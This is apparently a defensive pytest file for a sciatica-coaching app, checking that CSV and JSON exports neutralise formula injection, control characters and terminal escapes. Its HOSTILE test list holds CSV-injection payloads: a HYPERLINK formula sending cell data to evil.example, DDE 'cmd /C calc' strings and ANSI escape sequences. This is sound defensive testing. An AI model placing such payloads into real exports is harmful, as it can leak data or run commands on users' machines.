"""Issue 17, class 5 (outputs): the CSV exports neutralise formula-like text and control characters, and the
JSON export carries nothing a terminal would act on, so opening an export in a spreadsheet or printing it in a
terminal runs nothing. Numbers stay numbers, negative ones too.

Decisions tested here: a text cell whose first character (after spaces) is = + - @ (or their fullwidth forms)
gets a leading apostrophe; tab, CR and LF inside a cell become a space; other control characters (C0, DEL,
C1) and bidirectional overrides are removed; a lone surrogate becomes U+FFFD. A number (int or float,
negative too) is written as it is, and so is text that is only a plain decimal number ("-3", "2.5"), which a
spreadsheet reads as that number and never as a formula."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any, cast
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sciatica_coach.core.clock import ManualClock
from sciatica_coach.core.model import (
    ExerciseRecord,
    Outcome,
    PainReport,
    Phase,
    SafetyEvent,
    SafetyEventKind,
    SessionRecord,
)
from sciatica_coach.services.report_data import long_csv
from sciatica_coach.storage.exchange import (
    export_csv,
    export_events_csv,
    export_json,
    spreadsheet_cell,
)
from sciatica_coach.storage.repository import Repository

TZ = ZoneInfo("Europe/Berlin")
NOW = datetime(2026, 3, 6, 12, 0, tzinfo=TZ)
FORMULA_STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BIDI = {"\u061c", "\u200e", "\u200f", *map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A))}
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
    "\x1b]0;owned\x07title",
    "\x1b[2J\x1b[31mred",
    "\x9b31mC1 red",
    "abc\u202edcba",
    "lone \ud800 surrogate",
    "line\nbreak",
]


def _is_clean(text: str) -> bool:
    return not any(
        unicodedata.category(ch) == "Cc" or ch in BIDI or "\ud800" <= ch <= "\udfff" for ch in text
    )


def _is_inert(text: str) -> bool:
    """Not read as a formula by a spreadsheet: no formula character first (after spaces), unless it is a
    plain number."""
    stripped = text.lstrip(" ")
    if not stripped.startswith(FORMULA_STARTS):
        return True
    try:
        float(stripped)
    except ValueError:
        return False
    return stripped.lstrip("+-").replace(".", "", 1).isascii()


# ---- the one cell rule ----------------------------------------------------------------------------------


@settings(max_examples=600, deadline=None)
@given(st.text(alphabet=st.characters(codec=None), max_size=40))
def test_any_text_cell_is_clean_inert_and_utf8(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert isinstance(cell, str)
    assert _is_clean(cell), repr(cell)
    assert _is_inert(cell), repr(cell)
    cell.encode("utf-8")  # never a lone surrogate that would stop the file being written


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(FORMULA_STARTS), st.text(max_size=20))
def test_formula_like_text_keeps_its_words_behind_an_apostrophe(start: str, rest: str) -> None:
    text = start + rest
    cell = spreadsheet_cell(text)
    assert isinstance(cell, str)
    if not cell.startswith("'"):  # only a plain number (once control characters are gone) is left alone
        float(cell)
        assert cell.lstrip("+-").replace(".", "", 1).isdigit()


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.integers(min_value=-(10**12), max_value=10**12), st.floats(allow_nan=False, width=32)))
def test_numbers_stay_numbers_negative_ones_too(number: float) -> None:
    assert spreadsheet_cell(number) == number
    assert type(spreadsheet_cell(number)) is type(number)


@pytest.mark.parametrize("text", ["-3", "-3.5", "+4", "0", "12.25"])
def test_text_that_is_a_plain_number_stays_as_it_is(text: str) -> None:
    assert spreadsheet_cell(text) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "' =1+1"),
        ("\x1b]0;owned\x07title", "]0;ownedtitle"),
        ("abc\u202edcba", "abcdcba"),
        ("a\ud800b", "a\ufffdb"),
        ("line\nbreak", "line break"),
        ("Morning stretch, 08:00", "Morning stretch, 08:00"),
        ("", ""),
    ],
)
def test_examples(text: str, expected: str) -> None:
    assert spreadsheet_cell(text) == expected


# ---- the three CSV exports and the JSON export ----------------------------------------------------------


def _session(n: int, reason: str = "", slot: str = "08:00") -> SessionRecord:
    start = NOW - timedelta(days=n, hours=3)
    return SessionRecord(
        id=f"s{n}",
        started_at=start,
        ended_at=start + timedelta(minutes=11),
        phase=Phase.MOBILITY,
        exercises=(ExerciseRecord("pelvic-tilt", 10, 10, 1, 1, 5),),
        outcome=Outcome.ENDED_EARLY if reason else Outcome.COMPLETED,
        pain_before=PainReport(back=4, leg=3),
        pain_after=PainReport(back=3, leg=2),
        reason=reason,
        slot=slot,
    )


class _StubRepo:
    """What the exporters read, holding records the storage would refuse to keep (control characters)."""

    folder = Path("/nonexistent")

    def __init__(self, sessions: list[SessionRecord], events: list[SafetyEvent]) -> None:
        self._sessions, self._events = sessions, events

    def sessions(self, since: object = None) -> list[SessionRecord]:
        return self._sessions

    def safety_events(self, since: object = None) -> list[SafetyEvent]:
        return self._events

    def plan_start(self) -> None:
        return None

    def excused_days(self) -> set[object]:
        return set()

    def sitting_breaks(self, since: object = None) -> list[object]:
        return []

    def state(self, key: str, default: Any = None) -> Any:
        return default


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _hostile_repo() -> Repository:
    sessions = [_session(n + 1, reason=text, slot=text) for n, text in enumerate(HOSTILE)]
    events = [
        SafetyEvent(at=NOW - timedelta(days=n + 1), kind=SafetyEventKind.SESSION_STOPPED, detail=text,
                    exercise_id=text, session_id=text, flags=(text,))
        for n, text in enumerate(HOSTILE)
    ]  # fmt: skip
    return cast(Repository, _StubRepo(sessions, events))


@pytest.mark.parametrize("exporter", [export_csv, export_events_csv])
def test_history_csv_cells_are_clean_and_inert(exporter: Any) -> None:
    text = exporter(_hostile_repo())
    text.encode("utf-8")
    rows = _cells(text)
    assert len(rows) == 1 + len(HOSTILE)  # no cell broke a row
    for row in rows[1:]:
        for cell in row:
            assert _is_clean(cell) and _is_inert(cell), (row, cell)


def test_history_csv_keeps_numbers_and_words(data_dir: Path) -> None:
    repo = Repository.open(data_dir)
    repo.add_sessions([_session(1, reason="=1+1 I felt dizzy"), _session(2)])
    rows = {row[0]: row for row in _cells(export_csv(repo))[1:]}
    assert rows["s1"][6] == "'=1+1 I felt dizzy"
    assert rows["s1"][4] == "11.0" and rows["s1"][9] == "4"  # minutes and pain are plain numbers
    assert rows["s2"][6] == ""


def test_long_csv_for_clinicians_is_clean_and_inert(data_dir: Path) -> None:
    repo = Repository.open(data_dir)
    repo.add_sessions([_session(n + 1, reason=text) for n, text in enumerate(["=cmd()", "+1+1", "@x", "-1"])])
    rows = _cells(long_csv(repo, ManualClock(NOW), weeks=4))
    reasons = {row[0]: row[6] for row in rows[1:]}
    assert reasons == {"s1": "'=cmd()", "s2": "'+1+1", "s3": "'@x", "s4": "-1"}
    assert all(_is_inert(cell) for row in rows for cell in row)


def test_json_export_has_nothing_a_terminal_acts_on_and_reads_back_the_same() -> None:
    repo = _hostile_repo()
    text = export_json(repo, NOW)
    text.encode("utf-8")
    assert "\x1b" not in text and "\x9b" not in text and "\u202e" not in text
    back = json.loads(text)
    assert [s["reason"] for s in back["sessions"]] == HOSTILE
    assert [e["detail"] for e in back["safety_events"]] == HOSTILE
